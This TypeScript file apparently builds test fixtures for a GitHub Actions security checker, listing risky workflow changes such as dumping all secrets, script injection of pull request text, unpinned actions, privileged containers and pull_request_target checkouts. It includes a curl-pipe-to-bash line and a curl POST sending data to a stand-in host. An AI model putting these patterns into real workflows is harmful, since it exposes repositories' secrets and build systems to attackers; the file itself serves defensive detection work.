import { COMMIT, type JobModel, type StepModel, type WorkflowModel } from "./workflow-model.ts";
import type { Value } from "./yaml-hand.ts";

type Change = (workflow: WorkflowModel, job: string) => WorkflowModel;

/**
 * What an attacker, or somebody careless, adds to a workflow; `give` puts it into one job, `take`
 * makes sure that the job does not have it yet.
 */
export interface Grant {
  readonly what: string;
  readonly kind: string;
  /** Of the whole workflow: it comes with events and settings, not with a job. */
  readonly ofWorkflow?: true;
  /** It is one only where outsiders start the job. */
  readonly beforeOutsiders?: true;
  /** The step that gives it, where one does: in an action it gives the same. */
  readonly step?: StepModel;
  readonly take: Change;
  readonly give: Change;
}

export const grants: readonly Grant[] = [
  inJob("a scope to write", "github.workflow.permission", {
    permissions: { "security-events": "write" },
  }),
  inJob("all scopes to write", "github.workflow.permission", { permissions: "write-all" }),
  inStep("a secret in a step's variables", "github.workflow.secret", {
    run: "make",
    env: { KEY: "${{ secrets.NEW_KEY }}" },
  }),
  inStep("all secrets", "github.workflow.secret", { run: "echo '${{ toJSON(secrets) }}'" }),
  inStep("an outsider's text in a script", "github.step.injection", {
    run: 'echo "${{ github.event.pull_request.body }}"',
  }),
  inStep("an outsider's text in a script of JavaScript", "github.step.injection", {
    uses: `actions/github-script@${COMMIT}`,
    with: { script: "core.info(`${{ github.event.review.body }}`)" },
  }),
  inStep("an outsider's text in a script, through a variable", "github.step.injection", {
    run: 'echo "${{ env.NOTE }}"',
    env: { NOTE: "${{ github.event.discussion.title }}" },
  }),
  inStep("an action by a tag", "github.step.action", { uses: "new/action@v1" }),
  inStep("an action by a commit", "github.step.action", { uses: `new/action@${COMMIT}` }),
  inStep("an image by a tag", "github.step.action", { uses: "docker://example.org/new:1" }),
  inStep("a token made from a key", "github.step.minted-token", {
    uses: `tibdex/github-app-token@${COMMIT}`,
    with: { app_id: "1", private_key: "${{ secrets.NEW_KEY }}" },
  }),
  inStep("a script from elsewhere", "github.step.remote-script", {
    run: "curl -fsSL https://new.example.net/x.sh | bash",
  }),
  inStep("data sent elsewhere", "github.step.sent-data", {
    run: "curl -X POST -d @data https://new.example.net/in",
  }),
  inStep("commands on standard output", "github.step.unsecure-commands", {
    run: "make",
    env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: "yes" },
  }),
  inJob("a runner of one's own", "github.workflow.runner", {
    "runs-on": ["self-hosted", "new-label"],
  }),
  inJob("a privileged container", "github.workflow.container", {
    container: { image: "node:24", options: "--device /dev/kvm" },
  }),
  inJob("the machine's own folders", "github.workflow.container", {
    services: { cache: { image: "redis:8", volumes: ["/etc:/etc"] } },
  }),
  {
    what: "an event of outsiders",
    kind: "github.workflow.trigger",
    ofWorkflow: true,
    take: (workflow) => workflow,
    give: (workflow) => ({ ...workflow, on: { ...workflow.on, discussion_comment: null } }),
  },
  {
    what: "a secret in the workflow's variables",
    kind: "github.workflow.secret",
    ofWorkflow: true,
    take: (workflow) => workflow,
    give: (workflow) => ({ ...workflow, env: { KEY: "${{ secrets.NEW_KEY }}" } }),
  },
  underPrivilegedEvent("a pull request's code", {
    uses: `actions/checkout@${COMMIT}`,
    with: { ref: "refs/pull/${{ github.event.number }}/merge", "persist-credentials": false },
  }),
];

/** Changes that open what is there: the base, and the head that differs in one thing. */
export interface Opening {
  readonly what: string;
  readonly kind: string;
  readonly open: (
    workflow: WorkflowModel,
    job: string,
  ) => { readonly base: WorkflowModel; readonly head: WorkflowModel };
}

export const openings: readonly Opening[] = [
  stepOpening("a commit that became a tag", "github.step.action", (pinned) => ({
    uses: pinned ? `new/action@${COMMIT}` : "new/action@v1",
  })),
  stepOpening("credentials that stay", "github.step.persisted-credentials", (cleared) => ({
    uses: `actions/checkout@${COMMIT}`,
    with: cleared ? { "persist-credentials": false } : {},
  })),
  stepOpening(
    "a script around an outsider's text that changed",
    "github.step.injection",
    (old) => ({
      run: `${old ? "echo" : "sh -c"} "\${{ github.event.commits[0].message }}"`,
    }),
  ),
  jobOpening("a scope that reads and then writes", "github.workflow.permission", (reads) => ({
    permissions: { actions: reads ? "read" : "write" },
  })),
  jobOpening("an environment that is gone", "github.workflow.permission", (guarded) => ({
    permissions: { actions: "write" },
    environment: guarded ? "production" : null,
  })),
  exposedOpening("a job's condition that is gone", "github.workflow.permission", (guarded) => ({
    permissions: { actions: "write" },
    if: guarded ? "github.actor == 'ann'" : "true",
  })),
  exposedOpening("one condition less", "github.workflow.permission", (guarded) => ({
    permissions: { actions: "write" },
    if: guarded ? "github.actor == 'ann' && github.ref == 'x'" : "github.actor == 'ann'",
  })),
  {
    what: "a step's condition that is gone",
    kind: "github.step.action",
    open: (workflow, job) => {
      const exposed = { ...workflow, on: { ...workflow.on, fork: null } };
      const use = { uses: "new/action@v1" };
      return {
        base: addStep(exposed, job, { ...use, if: "github.event.forkee.private" }),
        head: addStep(exposed, job, use),
      };
    },
  },
  {
    what: "an event of outsiders that lost a filter",
    kind: "github.workflow.trigger",
    open: (workflow) => ({
      base: { ...workflow, on: { ...workflow.on, pull_request_target: { types: ["labeled"] } } },
      head: { ...workflow, on: { ...workflow.on, pull_request_target: null } },
    }),
  },
];

/** A workflow with other keys in one job. */
export function patchJob(
  workflow: WorkflowModel,
  id: string,
  patch: Readonly<Record<string, Value>>,
): WorkflowModel {
  const body = { ...workflow.jobs[id], ...patch } as JobModel;
  return { ...workflow, jobs: { ...workflow.jobs, [id]: body } };
}

/** A workflow with one step more in a job. */
function addStep(workflow: WorkflowModel, id: string, step: StepModel): WorkflowModel {
  return patchJob(workflow, id, { steps: [...(workflow.jobs[id]?.steps ?? []), step] });
}

/** What a job has that was given nothing. */
const BARE = { permissions: {}, "runs-on": "ubuntu-latest", container: null, services: {} };

function inJob(what: string, kind: string, patch: Readonly<Record<string, Value>>): Grant {
  return {
    what,
    kind,
    take: (workflow, job) => patchJob(workflow, job, BARE),
    give: (workflow, job) => patchJob(workflow, job, patch),
  };
}

function inStep(what: string, kind: string, step: StepModel): Grant {
  const give: Change = (workflow, job) => addStep(workflow, job, step);
  return { what, kind, step, take: (workflow) => workflow, give };
}

function underPrivilegedEvent(what: string, step: StepModel): Grant {
  return {
    what,
    kind: "github.step.untrusted-code",
    beforeOutsiders: true,
    take: (workflow) => workflow,
    give: (workflow, job) =>
      addStep({ ...workflow, on: { ...workflow.on, pull_request_target: null } }, job, step),
  };
}

function stepOpening(what: string, kind: string, step: (before: boolean) => StepModel): Opening {
  return {
    what,
    kind,
    open: (workflow, job) => ({
      base: addStep(workflow, job, step(true)),
      head: addStep(workflow, job, step(false)),
    }),
  };
}

function jobOpening(
  what: string,
  kind: string,
  patch: (before: boolean) => Readonly<Record<string, Value>>,
): Opening {
  return {
    what,
    kind,
    open: (workflow, job) => ({
      base: patchJob(workflow, job, patch(true)),
      head: patchJob(workflow, job, patch(false)),
    }),
  };
}

/** The same where outsiders start the job. */
function exposedOpening(
  what: string,
  kind: string,
  patch: (before: boolean) => Readonly<Record<string, Value>>,
): Opening {
  const { open } = jobOpening(what, kind, patch);
  return {
    what,
    kind,
    open: (workflow, job) => open({ ...workflow, on: { ...workflow.on, fork: null } }, job),
  };
}
